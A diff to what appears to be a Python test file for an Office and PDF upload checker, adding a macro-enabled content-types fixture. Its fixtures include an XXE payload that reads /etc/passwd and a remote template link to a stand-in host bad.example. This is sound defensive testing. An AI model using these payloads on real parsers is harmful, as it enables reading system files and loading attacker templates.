@@ -49,6 +49,10 @@ OUTSIDE = (
     'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
     'Target="http://bad.example/t.dotm"/></Relationships>'
 )
+MACRO_TYPES = (
+    '<Types><Override PartName="/word/document.xml" '
+    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
+)
 ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
 HOSTILE = {
     "nothing": ("a.pdf", b"", "empty"),
@@ -80,7 +84,7 @@ HOSTILE = {
     "macros": ("a.docx", with_part(DOCX, "word/vbaProject.bin", b"x"), "active"),
     "an object inside": ("a.docx", with_part(DOCX, "word/embeddings/o.bin", b"x"), "active"),
     "a macro type": ("a.docx", with_part(DOCX, "[Content_Types].xml",
-                     "application/vnd.ms-word.document.macroEnabled.main+xml", instead=True),
+                     MACRO_TYPES, instead=True),
                      "active"),
     "a template elsewhere": ("a.docx", with_part(DOCX, "word/_rels/settings.xml.rels", OUTSIDE),
                              "outside"),
